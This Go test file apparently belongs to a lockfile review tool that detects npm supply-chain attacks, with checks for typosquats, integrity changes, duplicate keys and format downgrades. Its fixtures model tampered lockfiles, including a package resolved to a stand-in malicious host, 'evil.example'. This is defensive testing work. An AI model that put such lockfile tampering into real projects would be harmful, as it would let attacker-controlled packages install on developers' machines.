		"attack-typosquat":                                {{"install-script", "high", "crossenv"}, {"typosquat", "high", "crossenv"}},
		"attack-lockfile-injection":                       {{"integrity-changed", "critical", "lodash"}, {"name-mismatch", "critical", "lodash"}, {"resolved-changed", "high", "lodash"}},
		"attack-duplicate-key":                            {{"duplicate-key", "critical", "lodash"}, {"integrity-changed", "critical", "lodash"}, {"resolved-changed", "high", "lodash"}},
		"v3-workspaces-prometheus-dependabot-vite":        {{"install-script", "high", "esbuild"}, {"native-addon", "info", "esbuild"}},
		"v2-large-woocommerce-blocks-dependabot":          {{"install-script", "high", "fsevents"}, {"install-script", "high", "fsevents"}, {"broad-update", "medium", "@woocommerce/e2e-utils"}, {"native-addon", "low", "fsevents"}, {"native-addon", "info", "fsevents"}},
		"v3-octokit-webhooks-modernize-esbuild":           {{"install-script", "high", "esbuild"}, {"install-script", "high", "fsevents"}, {"broad-update", "medium", "tsx"}, {"native-addon", "info", "esbuild"}, {"native-addon", "info", "fsevents"}},
	}
	for name, want := range tests {
		t.Run(name, func(t *testing.T) {
			in := &checks.Input{Lockfile: "package-lock.json", Changes: scenario(t, name), Config: cfg}
			var gotKeys []key
			for _, f := range checks.Run(in, nil) {
				gotKeys = append(gotKeys, key{f.Check, f.Severity.String(), f.Package})
				if f.Line <= 0 {
					t.Errorf("finding without a line: %+v", f)
				}
			}
			if diff := cmp.Diff(want, gotKeys); diff != "" {
				t.Errorf("findings diff (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAllIDsAreStableKebabCase(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range checks.All() {
		if seen[c.ID] || c.ID != strings.ToLower(c.ID) || strings.ContainsAny(c.ID, " _") || c.Summary == "" || c.Run == nil {
			t.Errorf("check %+v: IDs must be unique kebab-case with a summary and a func", c.ID)
		}
		seen[c.ID] = true
	}
}

func TestParseSeverity(t *testing.T) {
	for _, s := range []string{"info", "low", "MEDIUM", "High", "critical"} {
		if _, err := checks.ParseSeverity(s); err != nil {
			t.Errorf("ParseSeverity(%q): %v", s, err)
		}
	}
	if _, err := checks.ParseSeverity("severe"); err == nil {
		t.Error("ParseSeverity(severe) = nil error")
	}
}

// TestREADMEListsEveryCheck keeps the README's check table in step with All().
func TestREADMEListsEveryCheck(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("..", "..", "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]string{}
	for _, line := range strings.Split(string(data), "\n") {
		cells := strings.Split(line, "|")
		if len(cells) > 3 && strings.HasPrefix(strings.TrimSpace(cells[1]), "`") {
			rows[strings.Trim(strings.TrimSpace(cells[1]), "`")] = strings.TrimSpace(cells[2])
		}
	}
	for _, c := range checks.All() {
		sev, ok := rows[c.ID]
		if !ok {
			t.Errorf("README.md has no row for check %q", c.ID)
			continue
		}
		if sev != c.Severity.String() {
			t.Errorf("README.md gives %q severity %q, All() says %q", c.ID, sev, c.Severity)
		}
		delete(rows, c.ID)
	}
	for id := range rows {
		if strings.Contains(id, "-") && !strings.HasPrefix(id, "-") && !strings.ContainsAny(id, " ./") {
			t.Errorf("README.md lists check %q that All() does not have", id)
		}
	}
}

// TestIntegrityChangedPointsAtChangedCopy checks that with two copies of a
// version, the finding points at the tampered one and shows its hashes
// apart, not at the untouched copy with an apparently identical hash.
func TestIntegrityChangedPointsAtChangedCopy(t *testing.T) {
	const good = "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="
	const bad = "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSh=="
	entry := func(path, integrity string) string {
		return raw(path, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"`, fmt.Sprintf(`"integrity":%q`, integrity))
	}
	base := lock(t, 3, ``, entry("node_modules/lodash", good), pkg("node_modules/yargs", "1.0.0"), entry("node_modules/yargs/node_modules/lodash", good))
	head := lock(t, 3, ``, entry("node_modules/lodash", good), pkg("node_modules/yargs", "1.0.0"), entry("node_modules/yargs/node_modules/lodash", bad))
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(base, head), Config: checks.DefaultConfig()}
	fs := checks.Run(in, func(id string) bool { return id == "integrity-changed" })
	if len(fs) != 1 {
		t.Fatalf("findings = %+v, want one", fs)
	}
	f := fs[0]
	if f.Path != "node_modules/yargs/node_modules/lodash" || f.Line != head.Package("node_modules/yargs/node_modules/lodash").Line {
		t.Errorf("points at %s line %d, want the tampered copy", f.Path, f.Line)
	}
	if f.Values["before"] != good || f.Values["after"] != bad {
		t.Errorf("values = %v, want the tampered copy's before and after", f.Values)
	}
	before, after, _ := strings.Cut(f.Message[strings.Index(f.Message, "(")+1:strings.Index(f.Message, ")")], " → ")
	if before == after || !strings.Contains(f.Message, "at node_modules/yargs/node_modules/lodash") {
		t.Errorf("message %q: the two hashes read the same, or the copy is not named", f.Message)
	}
}

// TestFormatDowngrade checks that a head lockfile rewritten in a format that
// records no install scripts, or that declares a version whose packages
// section it lacks, is reported, and that an upgrade or a v1 to v1 change is
// not.
func TestFormatDowngrade(t *testing.T) {
	parse := func(s string) *lockfile.Lockfile {
		t.Helper()
		l, err := lockfile.Parse("package-lock.json", []byte(s))
		if err != nil {
			t.Fatal(err)
		}
		return l
	}
	v3 := lock(t, 3, ``, pkg("node_modules/a", "1.0.0"))
	v1 := lockV1(t, `"a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-a1.0.0"}`,
		`"evil":{"version":"1.0.0","resolved":"https://registry.npmjs.org/evil/-/evil-1.0.0.tgz","integrity":"sha512-e"}`)
	v1Old := lockV1(t, `"a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-a1.0.0"}`)
	declared := parse("{\n\"lockfileVersion\": 3,\n\"dependencies\": {\"a\": {\"version\": \"1.0.0\", \"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\", \"integrity\": \"sha512-a1.0.0\"}, \"evil\": {\"version\": \"1.0.0\"}}}")
	for _, tc := range []struct {
		name       string
		base, head *lockfile.Lockfile
		want       string // message fragment, "" for no finding
		line       int
	}{
		{"v3-to-v1", v3, v1, "went from lockfileVersion 3 to 1", 1},
		{"declared-3-without-packages", v3, declared, "declares lockfileVersion 3 but has no `packages` section", 2},
		{"declared-3-without-packages-new-file", nil, declared, "declares lockfileVersion 3", 2},
		{"declared-1-with-packages", v1Old, parse("{\n\"lockfileVersion\": 1,\n\"dependencies\": {\"a\": {\"version\": \"1.0.0\"}},\n\"packages\": {\"node_modules/a\": {\"version\": \"1.0.0\", \"resolved\": \"https://evil.example/a.tgz\"}, \"node_modules/evil\": {\"version\": \"1.0.0\"}}}"), "declares lockfileVersion 1 but has a `packages` section", 2},
		{"v1-to-v3-upgrade", v1Old, v3, "", 0},
		{"v1-to-v1", v1Old, v1, "", 0},
		{"new-v1-file", nil, v1, "", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(tc.base, tc.head), Config: checks.DefaultConfig()}
			fs := checks.FormatDowngrade(in)
			if tc.want == "" {
				if len(fs) != 0 {
					t.Errorf("findings = %+v, want none", fs)
				}
				return
			}
			if len(fs) != 1 || fs[0].Severity != checks.High || !strings.Contains(fs[0].Message, tc.want) || fs[0].Line != tc.line {
				t.Fatalf("findings = %+v, want one high at line %d saying %q", fs, tc.line, tc.want)
			}
			if tc.name != "declared-1-with-packages" && !strings.Contains(fs[0].Message, "added or updated packages run install scripts is unknown") {
				t.Errorf("message %q does not say what the review cannot see", fs[0].Message)
			}
		})
	}
}

// TestTruncatedListsAreCritical: when the parser stopped recording (1,000
// duplicate keys, odd paths or section mismatches), a new one may hide
// behind the cap, so the review says so at critical even if the base had
// as many.
func TestTruncatedListsAreCritical(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{"lockfileVersion": 3, "packages": {"": {"name": "r"}`)
	for i := range lockfile.MaxRecorded + 5 {
		fmt.Fprintf(&b, `, "node_modules/a%d": {"version": "1.0.0"}, "node_modules/a%d": {"version": "1.0.1"}`, i, i)
	}
	b.WriteString("}}")
	head, err := lockfile.Parse("package-lock.json", []byte(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	if len(head.Duplicates) != lockfile.MaxRecorded {
		t.Fatalf("%d duplicates recorded, want the cap %d", len(head.Duplicates), lockfile.MaxRecorded)
	}
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(head, head), Config: checks.DefaultConfig()}
	fs := checks.DuplicateKeys(in)
	last := fs[len(fs)-1]
	if len(fs) != lockfile.MaxRecorded+1 || last.Severity != checks.Critical || !strings.Contains(last.Message, "only the first 1000 were read") {
		t.Errorf("%d findings, last %+v; want the %d pre-existing (medium) and one critical about the cap", len(fs), last, lockfile.MaxRecorded)
	}
	if head.Cut&lockfile.CutDuplicates == 0 {
		t.Errorf("Cut = %v, want duplicates marked", head.Cut)
	}
	// Exactly the cap, nothing dropped: complete, no extra finding.
	var exact strings.Builder
	exact.WriteString(`{"lockfileVersion": 3, "packages": {"": {"name": "r"}`)
	for i := range lockfile.MaxRecorded {
		fmt.Fprintf(&exact, `, "node_modules/a%d": {"version": "1.0.0"}, "node_modules/a%d": {"version": "1.0.1"}`, i, i)
	}
	exact.WriteString("}}")
	full, err := lockfile.Parse("package-lock.json", []byte(exact.String()))
	if err != nil {
		t.Fatal(err)
	}
	in.Changes = diff.Compare(full, full)
	if fs := checks.DuplicateKeys(in); len(fs) != lockfile.MaxRecorded || full.Cut != 0 {
		t.Errorf("%d findings, Cut %v; want %d and nothing cut", len(fs), full.Cut, lockfile.MaxRecorded)
	}
}
